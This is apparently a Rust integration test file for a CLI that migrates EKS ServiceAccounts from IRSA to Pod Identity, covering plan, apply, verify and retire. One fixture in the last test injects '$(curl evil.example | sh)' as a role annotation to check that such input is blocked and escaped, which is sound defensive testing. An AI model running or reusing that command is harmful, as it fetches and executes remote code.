        .apply(&ApplyOptions {
            remove_oidc_trust: true,
            remove_irsa_annotations: true,
            ..ApplyOptions::default()
        })
        .await;
    assert_eq!(summary.oidc_trust_removed, ["shop/before"], "{out}");
    assert_eq!(summary.annotations_removed, ["shop/before"], "{out}");
    let p = w.trust("before").await;
    assert!(!trust::has_oidc_trust(&p, "shop", "before"), "{p}");
    assert!(trust::has_oidc_trust(&p, "shop", "other"), "{p}");
    assert_eq!(trust::needed_edit(&p), trust::TrustEdit::None);
    let sa = w.cluster.get("serviceaccounts", "shop", "before").unwrap();
    assert_eq!(sa["metadata"]["annotations"], json!({}), "{sa}");
    assert!(w.verify().await.complete());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stuck_rollout_is_waited_for_a_bounded_time_and_stops_further_restarts() {
    let w = World::start().await;
    let pi = pod_identity_trust();
    for name in ["a", "b"] {
        w.role(name, vec![pi.clone()]).await;
        w.cluster
            .put(service_account("shop", name, &[("role-arn", &arn(name))]));
        w.eks.add("shop", name, name);
        let rs = deployment(&w.cluster, "shop", name, name);
        w.cluster.put(pod(
            "shop",
            &format!("{name}-0"),
            name,
            irsa_env(name),
            "linux-1",
            Some(("ReplicaSet", &rs)),
        ));
    }
    w.cluster.stall("deployments/shop/a");
    let started = std::time::Instant::now();
    let (summary, out) = w
        .apply(&ApplyOptions {
            restart_workloads: true,
            poll_interval: Duration::from_millis(50),
            rollout_timeout: Duration::from_millis(600),
            ..ApplyOptions::default()
        })
        .await;
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(summary.workloads_restarted.is_empty(), "{out}");
    assert_eq!(summary.stopped.len(), 2, "{out}");
    assert!(
        summary.stopped[0].reason.contains("not rolled out after"),
        "{out}"
    );
    assert!(
        summary.stopped[1].reason.contains("did not finish"),
        "{out}"
    );
    let restarted = w
        .cluster
        .patches()
        .iter()
        .filter(|(p, _, _)| p.contains("/deployments/"))
        .count();
    assert_eq!(restarted, 1, "one at a time: b was not restarted");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_command_plans_applies_and_verifies_with_standard_aws_settings() {
    let w = World::start().await;
    seed_cases(&w).await;

    // `migrate` alone plans; a terminal table (no progress line into a pipe).
    let (code, out, err) = w.run(&["--cluster-name", CLUSTER]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.starts_with("SERVICE ACCOUNT"), "{out}");
    assert!(out.contains("shop/trust-missing"), "{out}");
    assert!(!err.contains("reading"), "{err}");

    // Scoped to a few: nothing blocks there.
    let scoped = [
        "--cluster-name",
        CLUSTER,
        "--service-account",
        "shop/trust-missing",
        "--service-account",
        "trust-present",
    ];
    let (code, out, err) = w.run(&[&["plan", "--output", "json"][..], &scoped[..]].concat());
    assert_eq!(code, 0, "{out}{err}");
    let plan: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(plan["rows"].as_array().unwrap().len(), 2);
    assert_eq!(plan["totals"]["ready"], 2);
    assert_eq!(plan["clusterAccount"], ACCOUNT);

    // The AWS CLI commands, trust first; the policy document is valid JSON after shell quoting.
    let (code, out, _) = w.run(&[&["plan", "--output", "aws"][..], &scoped[..]].concat());
    assert_eq!(code, 0);
    let lines: Vec<&str> = out.lines().filter(|l| l.starts_with("aws ")).collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(
        lines[0].starts_with(
            "aws iam update-assume-role-policy --role-name trust-missing --policy-document '{"
        ),
        "{out}"
    );
    assert!(lines[1].starts_with("aws eks create-pod-identity-association --cluster-name prod --namespace shop --service-account trust-missing --role-arn arn:aws:iam::111122223333:role/trust-missing"), "{out}");
    let sh = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "printf %s {}",
            lines[0].split("--policy-document ").nth(1).unwrap()
        ))
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&sh.stdout).unwrap();
    assert_eq!(trust::needed_edit(&doc), trust::TrustEdit::None);

    // --eks-endpoint does what AWS_ENDPOINT_URL_EKS does.
    let url = w.eks.url().to_string();
    let (code, out, err) = w.run_with(
        &[
            "plan",
            "--output",
            "json",
            "--cluster-name",
            CLUSTER,
            "--eks-endpoint",
            &url,
            "--service-account",
            "shop/conflict",
        ],
        false,
    );
    assert_eq!(code, 1, "{out}{err}");
    let plan: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(plan["rows"][0]["association"]["state"], "conflict", "{out}");

    // --retire names its ServiceAccounts, and only removes.
    let (code, _, err) = w.run(&[
        "apply",
        "--approve",
        "--retire",
        "--remove-oidc-trust",
        "--cluster-name",
        CLUSTER,
    ]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--service-account"), "{err}");
    let (code, _, err) = w.run(&[&["apply", "--approve", "--retire"][..], &scoped[..]].concat());
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--retire only removes"), "{err}");

    // apply without --approve changes nothing.
    let (code, _, err) = w.run(&[&["apply"][..], &scoped[..]].concat());
    assert_eq!(code, 0);
    assert!(err.contains("nothing changed"), "{err}");
    assert_eq!(w.eks.creates(), 0);

    let (code, out, err) = w.run(&[&["apply", "--approve"][..], &scoped[..]].concat());
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.contains("summary: 1 trust policies updated, 2 associations created"),
        "{out}"
    );
    assert_eq!(w.eks.creates(), 2);

    // verify: trust-missing's pod predates its association; both still annotated.
    let (code, out, _) = w.run(&[&["verify", "--output", "json"][..], &scoped[..]].concat());
    assert_eq!(code, 1, "{out}");
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["podsNeedRestart"][0]["name"], "trust-missing-1");
    assert_eq!(report["stillAnnotated"].as_array().unwrap().len(), 2);

    // A conflict is said as one, not as "remove the annotation".
    let (code, out, _) = w.run(&[
        "verify",
        "--cluster-name",
        CLUSTER,
        "--service-account",
        "shop/conflict",
    ]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains(&format!(
            "its association gives role {}",
            arn("someone-elses")
        )),
        "{out}"
    );
}

/// The parallel-ServiceAccount variant: `writer-pi` beside `writer` gets the role through an
/// association while `writer` stays on IRSA; the workloads switch over (and could switch
/// back); then `writer` is retired: its OIDC trust and annotation go, no association is made.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_parallel_service_account_then_the_old_one_retired() {
    let w = World::start().await;
    w.role("writer", vec![irsa_statement("shop", "writer")])
        .await;
    w.cluster.put(service_account(
        "shop",
        "writer",
        &[("role-arn", &arn("writer"))],
    ));
    let rs = deployment(&w.cluster, "shop", "writer", "writer");
    w.cluster.put(pod(
        "shop",
        "writer-0",
        "writer",
        irsa_env("writer"),
        "linux-1",
        Some(("ReplicaSet", &rs)),
    ));
    w.cluster.put(cronjob("shop", "report", "writer"));
    // Annotated with the same role, so the migration picks it up.
    w.cluster.put(service_account(
        "shop",
        "writer-pi",
        &[("role-arn", &arn("writer"))],
    ));
    let only = |name: &str| Scope {
        service_accounts: vec![(Some("shop".into()), name.into())],
        ..Scope::default()
    };

    let (summary, out) = w
        .apply_in(
            only("writer-pi"),
            &ApplyOptions {
                remove_irsa_annotations: true,
                ..ApplyOptions::default()
            },
        )
        .await;
    assert_eq!(summary.trust_updated, ["writer"], "{out}");
    assert_eq!(summary.associations_created, ["shop/writer-pi"], "{out}");
    assert_eq!(summary.annotations_removed, ["shop/writer-pi"], "{out}");
    // writer is untouched: its OIDC trust stays, it has no association.
    let p = w.trust("writer").await;
    assert!(trust::has_oidc_trust(&p, "shop", "writer"), "{p}");
    assert_eq!(trust::needed_edit(&p), trust::TrustEdit::None);
    assert_eq!(
        w.eks.all(),
        [("shop".into(), "writer-pi".into(), arn("writer"))]
    );

    // Retiring writer before the switch is refused: its Deployment, pod and CronJob use it.
    let retire = ApplyOptions {
        retire: true,
        remove_oidc_trust: true,
        remove_irsa_annotations: true,
        ..ApplyOptions::default()
    };
    let (summary, out) = w.apply_in(only("writer"), &retire).await;
    assert!(summary.retired.is_empty(), "{out}");
    assert_eq!(summary.changes(), 0, "{out}");
    let reason = &summary.stopped[0].reason;
    for user in [
        "pod writer-0",
        "deployment/shop/writer",
        "cronjob/shop/report",
    ] {
        assert!(reason.contains(user), "{user}: {out}");
    }
    assert!(trust::has_oidc_trust(
        &w.trust("writer").await,
        "shop",
        "writer"
    ));

    // The cut-over (kubectl set serviceaccount): new pods run as writer-pi, on Pod Identity.
    let rs = deployment(&w.cluster, "shop", "writer", "writer-pi");
    w.cluster.put(pod(
        "shop",
        "writer-0",
        "writer-pi",
        pod_identity_env(),
        "linux-1",
        Some(("ReplicaSet", &rs)),
    ));
    w.cluster.put(cronjob("shop", "report", "writer-pi"));
    let report = w.verify().await;
    assert!(report.pods_need_restart.is_empty() && report.pods_with_both.is_empty());
    assert_eq!(report.still_annotated.len(), 1, "{report:?}");
    assert_eq!(report.still_annotated[0].service_account, "writer");
    assert!(!report.still_annotated[0].has_association);

    let (summary, out) = w.apply_in(only("writer"), &retire).await;
    assert_eq!(summary.retired, ["shop/writer"], "{out}");
    assert_eq!(summary.oidc_trust_removed, ["shop/writer"], "{out}");
    assert_eq!(summary.annotations_removed, ["shop/writer"], "{out}");
    assert!(summary.trust_updated.is_empty() && summary.associations_created.is_empty());
    assert_eq!(w.eks.all().len(), 1, "no association for the retired one");
    let p = w.trust("writer").await;
    assert!(!trust::has_oidc_trust(&p, "shop", "writer"), "{p}");
    assert_eq!(trust::needed_edit(&p), trust::TrustEdit::None);
    assert!(w.verify().await.complete());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_associations_file_is_the_target_without_eks() {
    let w = World::start().await;
    let pi = pod_identity_trust();
    w.role("carts", vec![pi.clone()]).await;
    w.role("orders", vec![irsa_statement("team-a", "orders")])
        .await;
    w.cluster.put(service_account(
        "team-a",
        "carts",
        &[("role-arn", &arn("carts"))],
    ));
    w.cluster.put(service_account(
        "team-a",
        "orders",
        &[("role-arn", &arn("orders"))],
    ));
    let file = w.dir.path().join("associations.yaml");
    std::fs::write(
        &file,
        format!(
            "associations:\n  - namespace: team-a\n    serviceAccount: carts\n    roleArn: {}\n",
            arn("carts")
        ),
    )
    .unwrap();
    let f = file.to_str().unwrap();

    let (code, out, err) = w.run(&[
        "plan",
        "--associations",
        f,
        "--cluster-account",
        ACCOUNT,
        "--output",
        "associations",
    ]);
    assert_eq!(code, 0, "{out}{err}");
    let entries = pod_identity_webhook::identity::file::parse(&file, &out)
        .unwrap()
        .associations;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].service_account, "orders");

    let target = FileTarget::new(&file);
    let parts = Parts {
        cluster: &w.kube,
        target: &target,
        roles: &w.roles,
    };
    for run in 0..2 {
        let (inv, plan) = migrate::plan(
            &parts,
            &read_settings(false),
            &CheckSettings::new(target.info()),
            &Progress::new(false),
        )
        .await
        .unwrap();
        let mut out = Vec::new();
        let summary = apply::apply(
            &parts,
            &inv,
            &plan,
            &read_settings(false),
            &ApplyOptions::default(),
            &mut out,
        )
        .await;
        assert_eq!(
            summary.changes(),
            if run == 0 { 2 } else { 0 },
            "{}",
            String::from_utf8_lossy(&out)
        );
    }
    let list = pod_identity_webhook::identity::file::parse(
        &file,
        &std::fs::read_to_string(&file).unwrap(),
    )
    .unwrap()
    .associations;
    let keys: BTreeMap<String, String> = list
        .into_iter()
        .map(|a| (a.service_account, a.role_arn))
        .collect();
    assert_eq!(
        keys,
        BTreeMap::from([
            ("carts".into(), arn("carts")),
            ("orders".into(), arn("orders"))
        ])
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn large_clusters_are_read_in_pages() {
    let w = World::start().await;
    w.role("r", vec![]).await;
    for i in 0..1203 {
        w.cluster.put(service_account(
            &format!("ns-{}", i % 7),
            &format!("sa-{i:04}"),
            &[("role-arn", &arn("r"))],
        ));
    }
    let (_, plan) = w.plan().await;
    assert_eq!(plan.rows.len(), 1203);
    let pages: Vec<String> = w
        .cluster
        .requests()
        .into_iter()
        .filter(|r| r.starts_with("GET /api/v1/serviceaccounts?"))
        .collect();
    assert_eq!(pages.len(), 3, "{pages:?}");
    assert!(pages.iter().all(|p| p.contains("limit=500")));
    assert!(pages[1].contains("continue="));
    // One GetRole for a role shared by all.
    assert_eq!(w.get_roles.count(), 1);
    assert_eq!(plan.totals.trust_updates, 1);
    assert!(matches!(
        &row(&plan, "sa-0000").actions[0],
        Action::UpdateTrust { .. }
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nodes_that_cannot_be_listed_are_said_so_and_selectors_still_tell() {
    let w = World::start().await;
    w.cluster.forbid("nodes");
    let pi = pod_identity_trust();
    w.role("win", vec![pi]).await;
    w.cluster
        .put(service_account("shop", "win", &[("role-arn", &arn("win"))]));
    let mut p = pod("shop", "win-0", "win", vec![], "win-1", None);
    p["spec"]["nodeSelector"] = json!({"kubernetes.io/os": "windows"});
    w.cluster.put(p);
    let (_, plan) = w.plan().await;
    assert!(
        plan.notes
            .iter()
            .any(|n| n.contains("nodes could not be listed")),
        "{:?}",
        plan.notes
    );
    assert_eq!(codes(row(&plan, "win"), Severity::Block), ["windows-node"]);
}

/// Issue 33: a role trusting two clusters' OIDC providers for the same ServiceAccount (a
/// ServiceAccount of the same name in two clusters) loses only this cluster's statement; the
/// other cluster's is kept and said. The issuer comes from EKS DescribeCluster, from
/// `--oidc-issuer`, and is required when neither EKS nor the API server tells it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn removing_oidc_trust_keeps_another_clusters_statement() {
    const OTHER: &str = "oidc.eks.eu-west-1.amazonaws.com/id/OTHERCLUSTER0000000000000000000";
    let other_cluster = |ns: &str, sa: &str| {
        let mut s = irsa_statement(ns, sa).to_string();
        s = s.replace(OIDC, OTHER);
        serde_json::from_str::<Value>(&s).unwrap()
    };
    let w = World::start().await;
    let pi = pod_identity_trust();
    for name in ["four", "five"] {
        w.role(
            name,
            vec![
                irsa_statement("a", name),
                other_cluster("a", name),
                pi.clone(),
            ],
        )
        .await;
        w.cluster
            .put(service_account("a", name, &[("role-arn", &arn(name))]));
        w.eks.add("a", name, name);
    }

    // The issuer from EKS DescribeCluster: this cluster's statement goes, the other stays.
    let (summary, out) = w
        .apply_in(
            Scope {
                service_accounts: vec![(Some("a".into()), "four".into())],
                ..Scope::default()
            },
            &ApplyOptions {
                remove_oidc_trust: true,
                ..ApplyOptions::default()
            },
        )
        .await;
    println!("{out}");
    assert_eq!(summary.oidc_trust_removed, ["a/four"], "{out}");
    let provider = format!("arn:aws:iam::{ACCOUNT}:oidc-provider/{OTHER}");
    assert_eq!(
        summary.oidc_trust_kept,
        [format!("a/four: {provider}")],
        "{out}"
    );
    assert!(
        out.contains(&format!(
            "kept: trusted by another cluster: four trusts a/four through {provider}"
        )),
        "{out}"
    );
    let p = w.trust("four").await;
    assert_eq!(
        p["Statement"],
        json!([other_cluster("a", "four"), pi.clone()]),
        "{p}"
    );

    // Without EKS (an associations file) and without the API server's discovery document
    // (the fake serves none): the command refuses before changing anything.
    let file = w.dir.path().join("associations.yaml");
    std::fs::write(
        &file,
        format!(
            "associations:\n  - namespace: a\n    serviceAccount: five\n    roleArn: {}\n",
            arn("five")
        ),
    )
    .unwrap();
    let f = file.to_str().unwrap();
    let args = [
        "apply",
        "--approve",
        "--remove-oidc-trust",
        "--associations",
        f,
    ];
    let (code, out, err) = w.run(&[&args[..], &["--service-account", "a/five"]].concat());
    assert_eq!(code, 2, "{out}{err}");
    println!("{err}");
    assert!(
        err.contains("cannot tell this cluster's OIDC issuer") && err.contains("--oidc-issuer"),
        "{err}"
    );
    assert!(err.contains("nothing changed"), "{err}");
    assert_eq!(
        w.trust("five").await["Statement"].as_array().unwrap().len(),
        3
    );

    // Given with --oidc-issuer: the same edit.
    let issuer = format!("https://{OIDC}");
    let (code, out, err) = w.run(
        &[
            &args[..],
            &["--service-account", "a/five", "--oidc-issuer", &issuer],
        ]
        .concat(),
    );
    assert_eq!(code, 0, "{out}{err}");
    println!("{out}");
    assert!(
        out.contains("kept: trusted by another cluster: a/five: "),
        "{out}"
    );
    let p = w.trust("five").await;
    assert_eq!(
        p["Statement"],
        json!([other_cluster("a", "five"), pi.clone()]),
        "{p}"
    );
}

/// Issue 33: every annotated ServiceAccount gets a row. A role annotation that is not a role
/// ARN is an `invalid-role-arn` finding that blocks the row (apply does nothing for it), with
/// the value shown escaped and cut; verify counts it and does not say the migration is complete.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn annotations_that_are_not_role_arns_get_blocked_rows_and_count_in_verify() {
    let w = World::start().await;
    let long = format!("arn:aws:iam::{ACCOUNT}:role/{}", "x".repeat(5000));
    let bad: [(&str, &str); 7] = [
        ("not-an-arn", "not-an-arn"),
        ("wildcard", "arn:aws:iam::111122223333:role/*"),
        ("relative", "role/*"),
        ("user", "arn:aws:iam::111122223333:user/bob"),
        ("spaces", "arn:aws:iam::111122223333:role/a b"),
        ("command", "$(curl evil.example | sh)\nnext line"),
        ("long", &long),
    ];
    for (name, value) in bad {
        w.cluster
            .put(service_account("odd", name, &[("role-arn", value)]));
    }
    w.role("good", vec![pod_identity_trust()]).await;
    w.cluster.put(service_account(
        "odd",
        "good",
        &[("role-arn", &arn("good"))],
    ));

    let (_, plan) = w.plan().await;
    assert_eq!(plan.rows.len(), 8, "every annotated ServiceAccount");
    assert_eq!(plan.totals.blocked, 7);
    assert_eq!(plan.exit_code(), 1);
    for (name, _) in bad {
        let r = row(&plan, name);
        assert_eq!(r.status, Status::Blocked, "{name}");
        assert_eq!(codes(r, Severity::Block), ["invalid-role-arn"], "{name}");
        assert!(r.actions.is_empty(), "{name}");
    }
    let command = &row(&plan, "command").findings[0].message;
    assert!(
        command.contains("`$(curl evil.example | sh)\\nnext line`"),
        "escaped: {command}"
    );
    let long_row = row(&plan, "long");
    assert!(long_row.role_arn.len() < 300, "{}", long_row.role_arn);
    assert!(
        long_row.role_arn.ends_with("… (5031 bytes)"),
        "{}",
        long_row.role_arn
    );

    // apply: the good row migrates; the others are skipped with their reason.
    let (summary, out) = w.apply(&ApplyOptions::default()).await;
    assert_eq!(summary.associations_created, ["odd/good"], "{out}");
    assert_eq!(summary.skipped.len(), 7, "{out}");
    assert!(out.contains("! skip odd/user: invalid-role-arn:"), "{out}");
    assert_eq!(w.eks.creates(), 1);

    // verify counts them, and the migration is not complete.
    let report = w.verify().await;
    assert!(!report.complete());
    let invalid = report
        .still_annotated
        .iter()
        .filter(|a| a.invalid_role_arn.is_some())
        .count();
    assert_eq!(invalid, 7);
    let (code, out, _) = w.run(&["verify", "--cluster-name", CLUSTER, "-n", "odd"]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains(
            "migration not complete: 0 pods to restart, 0 pods with both, 8 ServiceAccounts annotated (7 not with a role ARN)"
        ),
        "{out}"
    );
    assert!(!out.contains("migration complete"), "{out}");
    let (code, out, _) = w.run(&["plan", "--cluster-name", CLUSTER, "-n", "odd"]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("odd/not-an-arn"), "{out}");
    assert!(
        out.contains(
            "BLOCKS invalid-role-arn: `eks.amazonaws.com/role-arn` does not start with `arn:`"
        ),
        "{out}"
    );
    println!("{out}");
}
